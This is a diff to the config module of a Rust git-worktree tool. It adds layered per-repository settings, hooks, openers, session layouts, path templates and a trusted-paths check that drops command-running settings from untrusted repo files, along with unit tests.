@@ -1,55 +1,776 @@
+use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 
-use anyhow::{Context, Result};
+use anyhow::{Context, Result, bail};
+use colored::Colorize;
 use serde::Deserialize;
 
 use crate::error::ArvoreError;
+use crate::git::{self, RepoInfo};
+use crate::parallel;
+
+/// Name of the per-repository config file, checked into the repo root.
+pub const REPO_CONFIG_FILE: &str = ".arvore.yaml";
 
 #[derive(Debug, Clone)]
 pub struct Config {
     pub worktree_base: PathBuf,
+    pub hooks: Hooks,
+    /// Globs, relative to the main worktree, copied into new worktrees.
+    pub copy: Vec<String>,
+    /// Globs, relative to the main worktree, symlinked into new worktrees.
+    pub symlink: Vec<String>,
+    /// Clone copied files copy-on-write where the filesystem supports it.
+    pub reflink: bool,
+    /// Where worktrees go; relative templates live under `worktree_base`.
+    pub path_template: String,
+    pub sanitize: Sanitize,
+    /// Columns shown by `arvore ls`, in order.
+    pub ls_columns: Vec<Column>,
+    /// How many worktrees to inspect at once.
+    pub jobs: usize,
+    /// Open the worktree picked by `arvore switch` instead of printing it.
+    pub switch_open: bool,
+    /// Applications `arvore open` knows about: the built-ins plus any
+    /// defined in the config.
+    pub openers: BTreeMap<String, Opener>,
+    /// Openers used when `--with` isn't given, in order.
+    pub open_with: Vec<String>,
+    /// tmux/zellij sessions opened with the `tmux` and `zellij` openers.
+    pub session: SessionConfig,
+    /// Where `create --pr` and `review` fetch pull/merge requests from.
+    pub review: ReviewConfig,
+    /// Remote `create` looks for existing branches on before the others.
+    pub remote: String,
+    /// Branch worktrees are compared against; detected when unset.
+    pub main_branch: Option<String>,
+    /// Branch globs `clean` never offers to remove.
+    pub protected_branches: Vec<String>,
+    /// What `clean` does before removing a worktree with uncommitted changes.
+    pub clean_dirty: DirtyPolicy,
+    /// Move removed worktrees to the trash instead of deleting them.
+    pub trash: bool,
+}
+
+/// A column of the `arvore ls` table.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, clap::ValueEnum)]
+#[serde(rename_all = "snake_case")]
+pub enum Column {
+    /// Short HEAD commit.
+    Head,
+    Branch,
+    /// `[modified]` when there are uncommitted changes, plus `[locked]`
+    /// and `[prunable]`.
+    Status,
+    /// Upstream branch, e.g. `origin/feature`.
+    Upstream,
+    /// Commits ahead/behind the upstream.
+    Sync,
+    /// Commits ahead/behind the main branch.
+    Main,
+    /// Time since the last commit.
+    Age,
+    /// Subject of the last commit.
+    Subject,
+    Path,
+}
+
+pub const DEFAULT_LS_COLUMNS: &[Column] = &[
+    Column::Head,
+    Column::Branch,
+    Column::Upstream,
+    Column::Sync,
+    Column::Main,
+    Column::Age,
+    Column::Path,
+    Column::Status,
+];
+
+/// How `{branch_sanitized}` turns a branch name into a single path segment.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Sanitize {
+    /// `feature/auth` becomes `feature-auth`. Short, but `feature/a-b` and
+    /// `feature-a/b` end up in the same directory.
+    #[default]
+    Dash,
+    /// `feature/auth` becomes `feature%2Fauth`. Reversible, so two branches
+    /// never share a directory.
+    Percent,
+}
+
+impl Sanitize {
+    pub fn apply(self, branch: &str) -> String {
+        match self {
+            Sanitize::Dash => branch.replace('/', "-"),
+            Sanitize::Percent => branch.replace('%', "%25").replace('/', "%2F"),
+        }
+    }
+}
+
+/// What `clean` does with a selected worktree that has uncommitted changes.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum DirtyPolicy {
+    /// Save the changes, untracked files included, under
+    /// `refs/arvore/trash/` and remove the worktree.
+    #[default]
+    Snapshot,
+    /// Ask once more before discarding them; without a terminal to ask on,
+    /// the worktree is kept.
+    Confirm,
+    /// Never remove it.
+    Skip,
+}
+
+pub const DEFAULT_PATH_TEMPLATE: &str = "{repo}/{branch_sanitized}";
+
+const TEMPLATE_PLACEHOLDERS: &[&str] = &[
+    "repo",
+    "repo_parent",
+    "branch",
+    "branch_sanitized",
+    "user",
+    "remote_owner",
+];
+
+/// An application `arvore open` can launch, such as an editor or a terminal.
+#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
+pub struct Opener {
+    #[serde(default)]
+    pub command: String,
+    /// Arguments, with `{path}`, `{branch}` and `{repo}` filled in.
+    #[serde(default = "default_opener_args")]
+    pub args: Vec<String>,
+    /// Start it in the background instead of waiting for it to exit. Programs
+    /// that take over the terminal, like `nvim`, need `false`.
+    #[serde(default = "default_detach")]
+    pub detach: bool,
+    /// Operating systems it is available on, as in `std::env::consts::OS`
+    /// (`macos`, `linux`, ...). Empty means everywhere.
+    #[serde(default)]
+    pub platforms: Vec<String>,
+    /// Open the worktree's multiplexer session, laid out per `session`,
+    /// instead of running `command`.
+    #[serde(default)]
+    pub session: Option<Multiplexer>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Multiplexer {
+    Tmux,
+    Zellij,
+}
+
+impl std::fmt::Display for Multiplexer {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(match self {
+            Multiplexer::Tmux => "tmux",
+            Multiplexer::Zellij => "zellij",
+        })
+    }
+}
+
+/// One session per worktree, named after the repo and branch.
+#[derive(Debug, Clone)]
+pub struct SessionConfig {
+    /// Name template; `{repo}`, `{branch}` and `{branch_sanitized}`.
+    pub name: String,
+    /// Windows (tmux) or tabs (zellij) created with a new session.
+    pub windows: Vec<SessionWindow>,
+    /// Kill the worktree's session when `rm` or `clean` removes it.
+    pub kill_on_remove: bool,
+    /// tmux server socket name, as in `tmux -L`. The default server when unset.
+    pub tmux_socket: Option<String>,
+}
+
+#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
+pub struct SessionWindow {
+    #[serde(default)]
+    pub name: Option<String>,
+    /// Typed into the window's first pane once its shell starts.
+    #[serde(default)]
+    pub command: Option<String>,
+    /// Commands for further panes split off the first one; `""` leaves a
+    /// plain shell.
+    #[serde(default)]
+    pub panes: Vec<String>,
+    /// tmux layout applied once the panes exist, e.g. `main-vertical`.
+    #[serde(default)]
+    pub layout: Option<String>,
+}
+
+pub const DEFAULT_SESSION_NAME: &str = "{repo}-{branch_sanitized}";
+
+pub const SESSION_PLACEHOLDERS: &[&str] = &["repo", "branch", "branch_sanitized"];
+
+impl Opener {
+    pub fn is_available(&self) -> bool {
+        self.platforms.is_empty() || self.platforms.iter().any(|p| p == std::env::consts::OS)
+    }
+}
+
+fn default_opener_args() -> Vec<String> {
+    vec!["{path}".to_string()]
+}
+
+fn default_detach() -> bool {
+    true
+}
+
+pub const OPENER_PLACEHOLDERS: &[&str] = &["path", "branch", "repo"];
+
+pub const DEFAULT_OPEN_WITH: &[&str] = &["warp", "cursor"];
+
+fn builtin_openers() -> BTreeMap<String, Opener> {
+    let opener = |command: &str, args: &[&str], platforms: &[&str]| Opener {
+        command: command.to_string(),
+        args: args.iter().map(|a| a.to_string()).collect(),
+        detach: true,
+        platforms: platforms.iter().map(|p| p.to_string()).collect(),
+        session: None,
+    };
+    let session = |mux: Multiplexer| Opener {
+        command: mux.to_string(),
+        args: Vec::new(),
+        detach: false,
+        platforms: Vec::new(),
+        session: Some(mux),
+    };
+    BTreeMap::from([
+        (
+            "warp".to_string(),
+            opener("open", &["-a", "Warp", "{path}"], &["macos"]),
+        ),
+        ("cursor".to_string(), opener("cursor", &["{path}"], &[])),
+        ("code".to_string(), opener("code", &["{path}"], &[])),
+        ("tmux".to_string(), session(Multiplexer::Tmux)),
+        ("zellij".to_string(), session(Multiplexer::Zellij)),
+    ])
+}
+
+/// How pull/merge request numbers map to remote refs and local branches.
+#[derive(Debug, Clone)]
+pub struct ReviewConfig {
+    pub remote: String,
+    /// Ref holding the request's head, with `{number}` filled in. When unset
+    /// it is picked from the remote URL: GitLab's layout for URLs mentioning
+    /// `gitlab`, GitHub's otherwise.
+    pub ref_pattern: Option<String>,
+    /// Local branch the request is fetched into.
+    pub branch_pattern: String,
 }
 
-#[derive(Debug, Deserialize)]
+pub const GITHUB_REF_PATTERN: &str = "refs/pull/{number}/head";
+pub const GITLAB_REF_PATTERN: &str = "refs/merge-requests/{number}/head";
+pub const DEFAULT_REVIEW_BRANCH: &str = "pr/{number}";
+
+impl ReviewConfig {
+    pub fn remote_ref(&self, number: u64, remote_url: Option<&str>) -> String {
+        let pattern = self.ref_pattern.as_deref().unwrap_or_else(|| {
+            if remote_url.is_some_and(|url| url.contains("gitlab")) {
+                GITLAB_REF_PATTERN
+            } else {
+                GITHUB_REF_PATTERN
+            }
+        });
+        pattern.replace("{number}", &number.to_string())
+    }
+
+    pub fn branch(&self, number: u64) -> String {
+        self.branch_pattern.replace("{number}", &number.to_string())
+    }
+}
+
+/// Shell commands run at fixed points of a worktree's lifecycle.
+#[derive(Debug, Clone, Default)]
+pub struct Hooks {
+    pub post_create: Vec<String>,
+    pub pre_remove: Vec<String>,
+    pub post_remove: Vec<String>,
+    pub post_rename: Vec<String>,
+}
+
+#[derive(Debug, Default, Deserialize)]
 struct RawConfig {
+    #[serde(flatten)]
+    settings: RawSettings,
+    /// Overrides keyed by repo name or remote URL glob. Kept as a mapping
+    /// rather than a map type so entries apply in file order.
+    #[serde(default)]
+    repos: serde_yml::Mapping,
+    /// Repositories, by main worktree path or glob, whose `.arvore.yaml` may
+    /// set commands. Only read from the global config.
+    #[serde(default)]
+    trusted_paths: Vec<String>,
+}
+
+/// Every setting that can be overridden per repository. Unset fields fall
+/// through to the layer below.
+#[derive(Debug, Default, Deserialize)]
+struct RawSettings {
     worktree_base: Option<String>,
+    #[serde(default)]
+    hooks: RawHooks,
+    copy: Option<Vec<String>>,
+    symlink: Option<Vec<String>>,
+    reflink: Option<bool>,
+    path_template: Option<String>,
+    sanitize: Option<Sanitize>,
+    #[serde(default)]
+    ls: RawLs,
+    jobs: Option<usize>,
+    #[serde(default)]
+    switch: RawSwitch,
+    openers: Option<BTreeMap<String, Opener>>,
+    open_with: Option<Vec<String>>,
+    #[serde(default)]
+    session: RawSession,
+    #[serde(default)]
+    review: RawReview,
+    remote: Option<String>,
+    main_branch: Option<String>,
+    protected_branches: Option<Vec<String>>,
+    #[serde(default)]
+    clean: RawClean,
+    trash: Option<bool>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+struct RawLs {
+    columns: Option<Vec<Column>>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+struct RawSession {
+    name: Option<String>,
+    windows: Option<Vec<SessionWindow>>,
+    kill_on_remove: Option<bool>,
+    tmux_socket: Option<String>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+struct RawReview {
+    remote: Option<String>,
+    ref_pattern: Option<String>,
+    branch_pattern: Option<String>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+struct RawClean {
+    dirty: Option<DirtyPolicy>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+struct RawSwitch {
+    open: Option<bool>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+struct RawHooks {
+    post_create: Option<Vec<String>>,
+    pre_remove: Option<Vec<String>>,
+    post_remove: Option<Vec<String>>,
+    post_rename: Option<Vec<String>>,
+}
+
+impl RawSettings {
+    /// Drops every setting that runs commands, for a checked-in config file
+    /// of a repository that isn't trusted. Returns the names of those that
+    /// were set.
+    fn strip_commands(&mut self) -> Vec<&'static str> {
+        let mut ignored = Vec::new();
+        let hooks = std::mem::take(&mut self.hooks);
+        if hooks.post_create.is_some()
+            || hooks.pre_remove.is_some()
+            || hooks.post_remove.is_some()
+            || hooks.post_rename.is_some()
+        {
+            ignored.push("hooks");
+        }
+        if self.openers.take().is_some() {
+            ignored.push("openers");
+        }
+        if self.session.windows.take().is_some() {
+            ignored.push("session.windows");
+        }
+        ignored
+    }
+
+    /// Layers `over` on top of `self`; fields set in `over` win.
+    fn merge(self, over: RawSettings) -> RawSettings {
+        RawSettings {
+            worktree_base: over.worktree_base.or(self.worktree_base),
+            hooks: RawHooks {
+                post_create: over.hooks.post_create.or(self.hooks.post_create),
+                pre_remove: over.hooks.pre_remove.or(self.hooks.pre_remove),
+                post_remove: over.hooks.post_remove.or(self.hooks.post_remove),
+                post_rename: over.hooks.post_rename.or(self.hooks.post_rename),
+            },
+            copy: over.copy.or(self.copy),
+            symlink: over.symlink.or(self.symlink),
+            reflink: over.reflink.or(self.reflink),
+            path_template: over.path_template.or(self.path_template),
+            sanitize: over.sanitize.or(self.sanitize),
+            ls: RawLs {
+                columns: over.ls.columns.or(self.ls.columns),
+            },
+            jobs: over.jobs.or(self.jobs),
+            switch: RawSwitch {
+                open: over.switch.open.or(self.switch.open),
+            },
+            // Openers are merged by name, so a repository can add one
+            // without repeating the global ones.
+            openers: match (self.openers, over.openers) {
+                (Some(mut base), Some(over)) => {
+                    base.extend(over);
+                    Some(base)
+                }
+                (base, over) => over.or(base),
+            },
+            open_with: over.open_with.or(self.open_with),
+            session: RawSession {
+                name: over.session.name.or(self.session.name),
+                windows: over.session.windows.or(self.session.windows),
+                kill_on_remove: over.session.kill_on_remove.or(self.session.kill_on_remove),
+                tmux_socket: over.session.tmux_socket.or(self.session.tmux_socket),
+            },
+            review: RawReview {
+                remote: over.review.remote.or(self.review.remote),
+                ref_pattern: over.review.ref_pattern.or(self.review.ref_pattern),
+                branch_pattern: over.review.branch_pattern.or(self.review.branch_pattern),
+            },
+            remote: over.remote.or(self.remote),
+            main_branch: over.main_branch.or(self.main_branch),
+            protected_branches: over.protected_branches.or(self.protected_branches),
+            clean: RawClean {
+                dirty: over.clean.dirty.or(self.clean.dirty),
+            },
+            trash: over.trash.or(self.trash),
+        }
+    }
 }
 
 impl Config {
+    /// Loads the global config, then applies per-repository overrides for
+    /// the repository the command runs in, if any.
     pub fn load(config_path: Option<&Path>) -> Result<Self> {
+        let repo = git::repo_info().ok();
+        Config::load_for(config_path, repo.as_ref())
+    }
+
+    /// Precedence, lowest first: built-in defaults, the global config file,
+    /// each matching `repos` entry in file order, then `.arvore.yaml` at the
+    /// repository root.
+    pub fn load_for(config_path: Option<&Path>, repo: Option<&RepoInfo>) -> Result<Self> {
         let path = match config_path {
             Some(p) => p.to_path_buf(),
             None => default_config_path()?,
         };
 
-        if path.exists() {
-            let contents = std::fs::read_to_string(&path)
-                .with_context(|| format!("failed to read config file: {}", path.display()))?;
-            let raw: RawConfig = serde_yml::from_str(&contents)
-                .map_err(|e| ArvoreError::ConfigError(e.to_string()))?;
-            let base = raw
-                .worktree_base
-                .unwrap_or_else(|| "~/Dev/worktrees".to_string());
-            Ok(Config {
-                worktree_base: expand_tilde(&base),
-            })
+        let raw: RawConfig = if path.exists() {
+            parse_file(&path)?
         } else {
-            Ok(Config::default())
+            RawConfig::default()
+        };
+
+        let mut settings = raw.settings;
+        if let Some(repo) = repo {
+            for (key, value) in raw.repos {
+                let key = key
+                    .as_str()
+                    .ok_or_else(|| ArvoreError::ConfigError("repos keys must be strings".into()))?;
+                if repo_matches(key, repo) {
+                    let over: RawSettings = serde_yml::from_value(value)
+                        .map_err(|e| ArvoreError::ConfigError(format!("repos.{key}: {e}")))?;
+                    settings = settings.merge(over);
+                }
+            }
+
+            let repo_file = repo.toplevel.join(REPO_CONFIG_FILE);
+            if repo_file.exists() {
+                let mut over: RawSettings = parse_file(&repo_file)?;
+                if !is_trusted(&raw.trusted_paths, &repo.main_worktree) {
+                    let ignored = over.strip_commands();
+                    if !ignored.is_empty() {
+                        eprintln!(
+                            "{} ignoring {} in {}; add {} to trusted_paths to use them",
+                            "warning:".yellow().bold(),
+                            ignored.join(", "),
+                            repo_file.display(),
+                            repo.main_worktree.display()
+                        );
+                    }
+                }
+                settings = settings.merge(over);
+            }
+        }
+
+        let config = Config::from_raw(settings);
+        validate_template(&config.path_template)?;
+        validate_openers(&config)?;
+        validate_protected_branches(&config.protected_branches)?;
+        validate_review(&config.review)?;
+        validate_session(&config.session)?;
+        Ok(config)
+    }
+
+    fn from_raw(raw: RawSettings) -> Self {
+        let base = raw
+            .worktree_base
+            .unwrap_or_else(|| "~/Dev/worktrees".to_string());
+        let remote = raw.remote.unwrap_or_else(|| "origin".to_string());
+        Config {
+            worktree_base: expand_tilde(&base),
+            hooks: Hooks {
+                post_create: raw.hooks.post_create.unwrap_or_default(),
+                pre_remove: raw.hooks.pre_remove.unwrap_or_default(),
+                post_remove: raw.hooks.post_remove.unwrap_or_default(),
+                post_rename: raw.hooks.post_rename.unwrap_or_default(),
+            },
+            copy: raw.copy.unwrap_or_default(),
+            symlink: raw.symlink.unwrap_or_default(),
+            reflink: raw.reflink.unwrap_or(false),
+            path_template: raw
+                .path_template
+                .unwrap_or_else(|| DEFAULT_PATH_TEMPLATE.to_string()),
+            sanitize: raw.sanitize.unwrap_or_default(),
+            ls_columns: raw
+                .ls
+                .columns
+                .unwrap_or_else(|| DEFAULT_LS_COLUMNS.to_vec()),
+            jobs: raw.jobs.unwrap_or_else(parallel::default_jobs).max(1),
+            switch_open: raw.switch.open.unwrap_or(false),
+            openers: {
+                let mut openers = builtin_openers();
+                openers.extend(raw.openers.unwrap_or_default());
+                openers
+            },
+            open_with: raw
+                .open_with
+                .unwrap_or_else(|| DEFAULT_OPEN_WITH.iter().map(|s| s.to_string()).collect()),
+            session: SessionConfig {
+                name: raw
+                    .session
+                    .name
+                    .unwrap_or_else(|| DEFAULT_SESSION_NAME.to_string()),
+                windows: raw
+                    .session
+                    .windows
+                    .filter(|w| !w.is_empty())
+                    .unwrap_or_else(|| vec![SessionWindow::default()]),
+                kill_on_remove: raw.session.kill_on_remove.unwrap_or(false),
+                tmux_socket: raw.session.tmux_socket,
+            },
+            review: ReviewConfig {
+                remote: raw.review.remote.unwrap_or_else(|| remote.clone()),
+                ref_pattern: raw.review.ref_pattern,
+                branch_pattern: raw
+                    .review
+                    .branch_pattern
+                    .unwrap_or_else(|| DEFAULT_REVIEW_BRANCH.to_string()),
+            },
+            remote,
+            main_branch: raw.main_branch,
+            protected_branches: raw.protected_branches.unwrap_or_default(),
+            clean_dirty: raw.clean.dirty.unwrap_or_default(),
+            trash: raw.trash.unwrap_or(true),
         }
     }
 
-    pub fn worktree_path(&self, repo_name: &str, branch: &str) -> PathBuf {
-        let sanitized = branch.replace('/', "-");
-        self.worktree_base.join(repo_name).join(sanitized)
+    /// Whether `branch` matches one of `protected_branches`.
+    pub fn is_protected(&self, branch: &str) -> bool {
+        self.protected_branches.iter().any(|p| {
+            p == branch || glob::Pattern::new(p).is_ok_and(|pattern| pattern.matches(branch))
+        })
+    }
+
+    /// Where the worktree for `branch` lives, according to `path_template`.
+    pub fn worktree_path(&self, repo: &RepoInfo, branch: &str) -> Result<PathBuf> {
+        let rendered = render_template(&self.path_template, |name| {
+            Ok(match name {
+                "repo" => repo.name.clone(),
+                "repo_parent" => repo
+                    .main_worktree
+                    .parent()
+                    .unwrap_or(&repo.main_worktree)
+                    .to_string_lossy()
+                    .to_string(),
+                "branch" => branch.to_string(),
+                "branch_sanitized" => self.sanitize.apply(branch),
+                "user" => std::env::var("USER")
+                    .or_else(|_| std::env::var("USERNAME"))
+                    .map_err(|_| {
+                        ArvoreError::ConfigError("{user} used but $USER is not set".into())
+                    })?,
+                "remote_owner" => repo
+                    .remote_url(&self.remote)
+                    .and_then(git::remote_owner)
+                    .ok_or_else(|| {
+                        ArvoreError::ConfigError(format!(
+                            "{{remote_owner}} used but '{}' has no recognizable {} remote",
+                            repo.name, self.remote
+                        ))
+                    })?,
+                other => {
+                    return Err(ArvoreError::ConfigError(format!(
+                        "unknown placeholder {{{other}}} in path_template"
+                    ))
+                    .into());
+                }
+            })
+        })?;
+
+        let path = expand_tilde(&rendered);
+        if path.is_absolute() {
+            Ok(path)
+        } else {
+            Ok(self.worktree_base.join(path))
+        }
     }
 }
 
 impl Default for Config {
     fn default() -> Self {
-        Config {
-            worktree_base: expand_tilde("~/Dev/worktrees"),
+        Config::from_raw(RawSettings::default())
+    }
+}
+
+/// Whether `main_worktree` matches one of `trusted_paths`.
+fn is_trusted(trusted_paths: &[String], main_worktree: &Path) -> bool {
+    trusted_paths.iter().any(|p| {
+        let p = expand_tilde(p);
+        p == main_worktree
+            || glob::Pattern::new(&p.to_string_lossy())
+                .is_ok_and(|pattern| pattern.matches_path(main_worktree))
+    })
+}
+
+fn parse_file<T: serde::de::DeserializeOwned>(path: &Path) -> Result<T> {
+    let contents = std::fs::read_to_string(path)
+        .with_context(|| format!("failed to read config file: {}", path.display()))?;
+    let parsed = serde_yml::from_str(&contents)
+        .map_err(|e| ArvoreError::ConfigError(format!("{}: {e}", path.display())))?;
+    Ok(parsed)
+}
+
+/// Replaces each `{name}` in `template` with `lookup(name)`.
+pub fn render_template(
+    template: &str,
+    mut lookup: impl FnMut(&str) -> Result<String>,
+) -> Result<String> {
+    let mut out = String::with_capacity(template.len());
+    let mut rest = template;
+    while let Some(start) = rest.find('{') {
+        out.push_str(&rest[..start]);
+        let after = &rest[start + 1..];
+        let end = after.find('}').ok_or_else(|| {
+            ArvoreError::ConfigError(format!("unclosed '{{' in template: {template}"))
+        })?;
+        out.push_str(&lookup(&after[..end])?);
+        rest = &after[end + 1..];
+    }
+    out.push_str(rest);
+    Ok(out)
+}
+
+fn validate_template(template: &str) -> Result<()> {
+    render_template(template, |name| {
+        if TEMPLATE_PLACEHOLDERS.contains(&name) {
+            Ok(String::new())
+        } else {
+            Err(ArvoreError::ConfigError(format!(
+                "unknown placeholder {{{name}}} in path_template (expected one of: {})",
+                TEMPLATE_PLACEHOLDERS.join(", ")
+            ))
+            .into())
+        }
+    })?;
+    Ok(())
+}
+
+fn validate_openers(config: &Config) -> Result<()> {
+    for name in &config.open_with {
+        if !config.openers.contains_key(name) {
+            bail!(ArvoreError::ConfigError(format!(
+                "open_with refers to unknown opener '{name}'"
+            )));
         }
     }
+    for (name, opener) in &config.openers {
+        if opener.command.is_empty() && opener.session.is_none() {
+            bail!(ArvoreError::ConfigError(format!(
+                "opener '{name}' needs a command"
+            )));
+        }
+        for arg in &opener.args {
+            render_template(arg, |placeholder| {
+                if OPENER_PLACEHOLDERS.contains(&placeholder) {
+                    Ok(String::new())
+                } else {
+                    Err(ArvoreError::ConfigError(format!(
+                        "unknown placeholder {{{placeholder}}} in opener '{name}' (expected one of: {})",
+                        OPENER_PLACEHOLDERS.join(", ")
+                    ))
+                    .into())
+                }
+            })?;
+        }
+    }
+    Ok(())
+}
+
+fn validate_protected_branches(patterns: &[String]) -> Result<()> {
+    for pattern in patterns {
+        glob::Pattern::new(pattern).map_err(|e| {
+            ArvoreError::ConfigError(format!("invalid protected_branches entry '{pattern}': {e}"))
+        })?;
+    }
+    Ok(())
+}
+
+fn validate_review(review: &ReviewConfig) -> Result<()> {
+    let patterns = [
+        ("review.ref_pattern", review.ref_pattern.as_deref()),
+        ("review.branch_pattern", Some(review.branch_pattern.as_str())),
+    ];
+    for (key, pattern) in patterns {
+        if let Some(pattern) = pattern
+            && !pattern.contains("{number}")
+        {
+            bail!(ArvoreError::ConfigError(format!(
+                "{key} must contain {{number}}: {pattern}"
+            )));
+        }
+    }
+    Ok(())
+}
+
+fn validate_session(session: &SessionConfig) -> Result<()> {
+    render_template(&session.name, |placeholder| {
+        if SESSION_PLACEHOLDERS.contains(&placeholder) {
+            Ok(String::new())
+        } else {
+            Err(ArvoreError::ConfigError(format!(
+                "unknown placeholder {{{placeholder}}} in session.name (expected one of: {})",
+                SESSION_PLACEHOLDERS.join(", ")
+            ))
+            .into())
+        }
+    })?;
+    Ok(())
+}
+
+/// A `repos` key matches on the repository name or its `origin` URL, either
+/// exactly or as a glob (`github.com/acme/*`, `*/monorepo.git`). Not the
+/// configured `remote`, which a `repos` entry may itself set.
+fn repo_matches(key: &str, repo: &RepoInfo) -> bool {
+    let candidates = std::iter::once(repo.name.as_str()).chain(repo.remote_url("origin"));
+    let pattern = glob::Pattern::new(key).ok();
+    candidates
+        .into_iter()
+        .any(|c| c == key || pattern.as_ref().is_some_and(|p| p.matches(c)))
 }
 
 fn default_config_path() -> Result<PathBuf> {
@@ -90,21 +811,49 @@ mod tests {
 
     #[test]
     fn expand_tilde_absolute_unchanged() {
-        assert_eq!(expand_tilde("/absolute/path"), PathBuf::from("/absolute/path"));
+        assert_eq!(
+            expand_tilde("/absolute/path"),
+            PathBuf::from("/absolute/path")
+        );
     }
 
     #[test]
     fn expand_tilde_relative_unchanged() {
-        assert_eq!(expand_tilde("relative/path"), PathBuf::from("relative/path"));
+        assert_eq!(
+            expand_tilde("relative/path"),
+            PathBuf::from("relative/path")
+        );
+    }
+
+    fn myrepo() -> RepoInfo {
+        RepoInfo {
+            name: "myrepo".into(),
+            toplevel: PathBuf::from("/src/myrepo"),
+            main_worktree: PathBuf::from("/src/myrepo"),
+            remote_urls: BTreeMap::from([
+                ("origin".into(), "git@github.com:acme/myrepo.git".into()),
+                ("fork".into(), "git@github.com:me/myrepo.git".into()),
+            ]),
+        }
+    }
+
+    fn with_template(template: &str, sanitize: Sanitize) -> Config {
+        Config {
+            worktree_base: PathBuf::from("/base"),
+            path_template: template.into(),
+            sanitize,
+            ..Config::default()
+        }
     }
 
     #[test]
     fn worktree_path_simple_branch() {
         let config = Config {
             worktree_base: PathBuf::from("/base"),
+            ..Config::default()
         };
         assert_eq!(
-            config.worktree_path("myrepo", "feature"),
+            config.worktree_path(&myrepo(), "feature").unwrap(),
             PathBuf::from("/base/myrepo/feature")
         );
     }
@@ -113,9 +862,10 @@ mod tests {
     fn worktree_path_slash_in_branch() {
         let config = Config {
             worktree_base: PathBuf::from("/base"),
+            ..Config::default()
         };
         assert_eq!(
-            config.worktree_path("myrepo", "feature/auth"),
+            config.worktree_path(&myrepo(), "feature/auth").unwrap(),
             PathBuf::from("/base/myrepo/feature-auth")
         );
     }
@@ -124,13 +874,324 @@ mod tests {
     fn worktree_path_multiple_slashes() {
         let config = Config {
             worktree_base: PathBuf::from("/base"),
+            ..Config::default()
         };
         assert_eq!(
-            config.worktree_path("myrepo", "feat/sub/deep"),
+            config.worktree_path(&myrepo(), "feat/sub/deep").unwrap(),
             PathBuf::from("/base/myrepo/feat-sub-deep")
         );
     }
 
+    #[test]
+    fn worktree_path_percent_sanitize_avoids_collisions() {
+        let config = with_template(DEFAULT_PATH_TEMPLATE, Sanitize::Percent);
+        let a = config.worktree_path(&myrepo(), "feature/a-b").unwrap();
+        let b = config.worktree_path(&myrepo(), "feature-a/b").unwrap();
+        assert_eq!(a, PathBuf::from("/base/myrepo/feature%2Fa-b"));
+        assert_eq!(b, PathBuf::from("/base/myrepo/feature-a%2Fb"));
+    }
+
+    #[test]
+    fn percent_sanitize_escapes_percent() {
+        assert_eq!(Sanitize::Percent.apply("100%/done"), "100%25%2Fdone");
+    }
+
+    #[test]
+    fn worktree_path_sibling_of_repo() {
+        let config = with_template("{repo_parent}/{repo}-{branch_sanitized}", Sanitize::Dash);
+        assert_eq!(
+            config.worktree_path(&myrepo(), "feature/auth").unwrap(),
+            PathBuf::from("/src/myrepo-feature-auth")
+        );
+    }
+
+    #[test]
+    fn worktree_path_raw_branch_and_owner() {
+        let mut config = with_template("{remote_owner}/{repo}/{branch}", Sanitize::Dash);
+        assert_eq!(
+            config.worktree_path(&myrepo(), "feature/auth").unwrap(),
+            PathBuf::from("/base/acme/myrepo/feature/auth")
+        );
+        config.remote = "fork".into();
+        assert_eq!(
+            config.worktree_path(&myrepo(), "feature/auth").unwrap(),
+            PathBuf::from("/base/me/myrepo/feature/auth")
+        );
+    }
+
+    #[test]
+    fn worktree_path_remote_owner_without_remote_errors() {
+        let config = with_template("{remote_owner}/{branch}", Sanitize::Dash);
+        let repo = RepoInfo {
+            remote_urls: BTreeMap::new(),
+            ..myrepo()
+        };
+        assert!(config.worktree_path(&repo, "x").is_err());
+    }
+
+    #[test]
+    fn load_path_template_and_sanitize() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(
+            &config_path,
+            "path_template: \"{repo}/{user}/{branch_sanitized}\"\nsanitize: percent\n",
+        )
+        .unwrap();
+        let config = Config::load_for(Some(&config_path), None).unwrap();
+        assert_eq!(config.path_template, "{repo}/{user}/{branch_sanitized}");
+        assert_eq!(config.sanitize, Sanitize::Percent);
+    }
+
+    #[test]
+    fn load_ls_columns() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, "ls:\n  columns: [branch, sync, age]\n").unwrap();
+        let config = Config::load_for(Some(&config_path), None).unwrap();
+        assert_eq!(
+            config.ls_columns,
+            vec![Column::Branch, Column::Sync, Column::Age]
+        );
+    }
+
+    #[test]
+    fn load_jobs() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, "jobs: 16\n").unwrap();
+        let config = Config::load_for(Some(&config_path), None).unwrap();
+        assert_eq!(config.jobs, 16);
+    }
+
+    #[test]
+    fn zero_jobs_means_one() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, "jobs: 0\n").unwrap();
+        let config = Config::load_for(Some(&config_path), None).unwrap();
+        assert_eq!(config.jobs, 1);
+    }
+
+    #[test]
+    fn load_switch_open() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, "switch:\n  open: true\n").unwrap();
+        let config = Config::load_for(Some(&config_path), None).unwrap();
+        assert!(config.switch_open);
+        assert!(!Config::default().switch_open);
+    }
+
+    #[test]
+    fn load_clean_dirty_policy() {
+        let dir = tempfile::tempdir().unwrap();
